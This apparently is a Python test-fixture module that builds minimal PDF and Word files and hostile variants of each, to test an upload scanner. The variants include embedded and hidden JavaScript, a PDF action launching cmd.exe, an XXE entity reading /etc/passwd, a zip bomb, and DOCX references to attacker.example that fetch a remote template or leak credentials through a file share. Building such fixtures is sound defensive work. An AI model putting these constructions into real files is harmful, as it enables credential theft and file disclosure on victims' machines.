"""Real file contents for upload tests: a minimal PDF and DOCX, and hostile variants of each,
built here (pypdf writes the PDFs) so that every test file is small and says what it holds."""

from __future__ import annotations

import codecs
import io
import zipfile
from collections.abc import Callable

from pypdf import PageObject, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

# The EICAR anti-virus test file, put together here so that this source is not itself one
# (a developer's own virus scanner would otherwise quarantine it).
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

# --- PDF ----------------------------------------------------------------------------------

PdfChange = Callable[[PdfWriter, PageObject], None]


def pdf_bytes(change: PdfChange | None = None) -> bytes:
    """A one-page A4 PDF, changed by change(writer, page) before it is written."""
    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    if change is not None:
        change(writer, page)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


PDF_BYTES = pdf_bytes()


def _name(value: str) -> NameObject:
    return NameObject(value)


def _action(kind: str, **entries: object) -> DictionaryObject:
    action = DictionaryObject({_name("/Type"): _name("/Action"), _name("/S"): _name(kind)})
    for key, value in entries.items():
        action[_name(f"/{key}")] = value  # type: ignore[assignment]
    return action


def _javascript(script: str = "app.alert('hello')") -> DictionaryObject:
    return _action("/JavaScript", JS=TextStringObject(script))


def _link(writer: PdfWriter, page: PageObject, action: DictionaryObject) -> None:
    """A link annotation over the top of the page that runs action when clicked."""
    annotation = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name("/Link"),
            _name("/Rect"): ArrayObject([NumberObject(n) for n in (50, 750, 300, 800)]),
            _name("/A"): writer._add_object(action),
        }
    )
    page[_name("/Annots")] = ArrayObject([writer._add_object(annotation)])


def pdf_with_javascript() -> bytes:
    """Document-level JavaScript in the names tree, as Acrobat writes it."""

    def change(writer: PdfWriter, page: PageObject) -> None:
        scripts = DictionaryObject(
            {
                _name("/Names"): ArrayObject(
                    [TextStringObject("hello"), writer._add_object(_javascript())]
                )
            }
        )
        names = DictionaryObject({_name("/JavaScript"): writer._add_object(scripts)})
        writer.root_object[_name("/Names")] = writer._add_object(names)

    return pdf_bytes(change)


def pdf_with_link_script() -> bytes:
    """JavaScript behind a link on the page (an annotation, not the catalogue)."""
    return pdf_bytes(lambda writer, page: _link(writer, page, _javascript()))


def pdf_with_open_action(action: DictionaryObject | None = None) -> bytes:
    """An action run as the document opens (by default, opening a web page)."""
    opening = action or _action("/URI", URI=TextStringObject("https://example.com/track"))

    def change(writer: PdfWriter, page: PageObject) -> None:
        writer.root_object[_name("/OpenAction")] = writer._add_object(opening)

    return pdf_bytes(change)


def pdf_opening_at_first_page() -> bytes:
    """An open destination (show page 1 whole): no action, nothing runs."""

    def change(writer: PdfWriter, page: PageObject) -> None:
        writer.root_object[_name("/OpenAction")] = ArrayObject(
            [page.indirect_reference, _name("/Fit")]
        )

    return pdf_bytes(change)


def pdf_with_launch() -> bytes:
    """A link that starts a program."""
    launch = _action("/Launch", F=TextStringObject("C:\\Windows\\System32\\cmd.exe"))
    return pdf_bytes(lambda writer, page: _link(writer, page, launch))


def pdf_with_web_link() -> bytes:
    """An ordinary link to a web page: allowed."""
    uri = _action("/URI", URI=TextStringObject("https://www.gov.uk/"))
    return pdf_bytes(lambda writer, page: _link(writer, page, uri))


def pdf_with_embedded_file() -> bytes:
    return pdf_bytes(lambda writer, page: writer.add_attachment("notes.txt", b"attached"))


def pdf_with_xfa() -> bytes:
    def change(writer: PdfWriter, page: PageObject) -> None:
        template = DecodedStreamObject()
        template.set_data(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
        form = DictionaryObject(
            {
                _name("/Fields"): ArrayObject(),
                _name("/XFA"): ArrayObject(
                    [TextStringObject("template"), writer._add_object(template)]
                ),
            }
        )
        writer.root_object[_name("/AcroForm")] = writer._add_object(form)

    return pdf_bytes(change)


def pdf_with_hidden_script() -> bytes:
    """A JavaScript action after the end of the file, which nothing in the document refers
    to, its names written with hex escapes (/J#53 is /JS): the parser never reads it, some
    viewers might, and the raw scan must find it."""
    return PDF_BYTES + b"99 0 obj\n<< /S /J#61vaScript /J#53 (app.alert(1)) >>\nendobj\n"


def pdf_with_names_in_a_stream() -> bytes:
    """Page content that uses the names the raw scan looks for: stream data is not syntax."""
    return pdf_with_stream(b"q /JS gs /XFA Do /Launch BDC EMC Q\n")


def pdf_encrypted(user_password: str = "secret") -> bytes:
    """Encrypted (RC4, which pypdf reads without a cryptography library); with no user
    password it opens for anyone and only the owner's permissions are restricted."""

    def change(writer: PdfWriter, page: PageObject) -> None:
        writer.encrypt(user_password, owner_password="owner", algorithm="RC4-128")

    return pdf_bytes(change)


def pdf_with_stream(data: bytes) -> bytes:
    """A PDF whose page content is exactly data (uncompressed), so a scanner sees it whole."""

    def change(writer: PdfWriter, page: PageObject) -> None:
        stream = DecodedStreamObject()
        stream.set_data(data)
        page[_name("/Contents")] = writer._add_object(stream)

    return pdf_bytes(change)


UNREADABLE_PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"

# --- DOCX ---------------------------------------------------------------------------------

RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" '
    b'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="application/'
    b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
DOCUMENT = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://'
    b'schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Advice'
    b"</w:t></w:r></w:p></w:body></w:document>"
)
Relationship = tuple[str, str, str]  # (type, target, target mode: "" or "External")


def relationships(*items: Relationship) -> bytes:
    """A .rels part; each item's type is the last segment of an officeDocument type."""
    rows = "".join(
        f'<Relationship Id="rId{n}" Type="{OFFICE_RELS}/{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for n, (kind, target, mode) in enumerate(items, start=1)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<Relationships xmlns="{RELS}">{rows}</Relationships>'
    ).encode()


def docx_bytes(
    extra: dict[str, bytes] | None = None,
    content_types: bytes = CONTENT_TYPES,
    document_rels: tuple[Relationship, ...] = (),
    document: bytes = DOCUMENT,
) -> bytes:
    """A Word document: the package, its relationships and one paragraph, plus extra parts
    and relationships from the main document."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", content_types)
        archive.writestr("_rels/.rels", relationships(("officeDocument", "word/document.xml", "")))
        archive.writestr("word/document.xml", document)
        if document_rels:
            archive.writestr("word/_rels/document.xml.rels", relationships(*document_rels))
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def zip_bomb_docx() -> bytes:
    """A small DOCX whose one part unpacks to far more than it packs (ratio check)."""
    return docx_bytes({"word/media/padding.bin": b"\0" * (5 * 1024 * 1024)})


def docx_with_remote_template() -> bytes:
    """Word fetches the template named in settings when the document opens."""
    settings = (
        b'<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="http://schemas.'
        b'openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.'
        b'openxmlformats.org/officeDocument/2006/relationships">'
        b'<w:attachedTemplate r:id="rId1"/></w:settings>'
    )
    template = ("attachedTemplate", "https://attacker.example/t.dotm", "External")
    return docx_bytes(
        {"word/settings.xml": settings, "word/_rels/settings.xml.rels": relationships(template)},
        document_rels=(("settings", "settings.xml", ""),),
    )


def docx_with_external_picture() -> bytes:
    """A picture loaded from a file share (which leaks the reader's credentials)."""
    return docx_bytes(document_rels=(("image", "\\\\attacker.example\\share\\a.png", "External"),))


def docx_with_web_link() -> bytes:
    """An ordinary hyperlink: allowed."""
    return docx_bytes(document_rels=(("hyperlink", "https://www.gov.uk/", "External"),))


def docx_with_ole_object() -> bytes:
    return docx_bytes(
        {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64},
        document_rels=(("oleObject", "embeddings/oleObject1.bin", ""),),
    )


def docx_with_activex() -> bytes:
    control = b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'
    return docx_bytes(
        {"word/activeX/activeX1.xml": control},
        document_rels=(("control", "activeX/activeX1.xml", ""),),
    )


def docx_with_altchunk() -> bytes:
    page = b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<html><body>x</body></html>"
    return docx_bytes({"word/afchunk.mht": page}, document_rels=(("aFChunk", "afchunk.mht", ""),))


def docx_with_macro_relationship() -> bytes:
    """A macro project under an innocent name, found by its relationship's type."""
    return docx_bytes(
        {"word/extra.dat": b"\xd0\xcf\x11\xe0"},
        document_rels=(("vbaProject", "extra.dat", ""),),
    )


XXE = (
    '<?xml version="1.0" encoding="{encoding}"?>'
    '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>"
)


def xml_with_doctype(encoding: str, bom: bool = False) -> bytes:
    """A main document part with a DOCTYPE declaring an external entity, in encoding."""
    text = XXE.format(encoding=encoding.upper())
    if encoding == "utf-7":
        # Python writes "<" as itself; UTF-7 may also write it "+ADw-", which only a reader
        # that honours the declaration sees as "<".
        return text.replace("<!", "+ADwAIQ-").encode("ascii")
    data = text.encode(encoding)
    if bom and encoding == "utf-16-le":
        data = codecs.BOM_UTF16_LE + data
    return data


def docx_with_doctype(encoding: str, bom: bool = False) -> bytes:
    """The main document part with a DOCTYPE, in encoding."""
    return docx_bytes(document=xml_with_doctype(encoding, bom))


def docx_with_content_types_doctype() -> bytes:
    """[Content_Types].xml in UTF-16 (with its byte order mark) with a DOCTYPE."""
    text = CONTENT_TYPES.decode().replace(
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>',
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE Types [<!ENTITY a "aaaaaaaa">]>',
    )
    return docx_bytes(content_types=text.encode("utf-16"))


def docx_with_part(name: str, data: bytes) -> bytes:
    """A part the main document does not refer to, as tools that build DOCX leave them."""
    return docx_bytes({name: data})
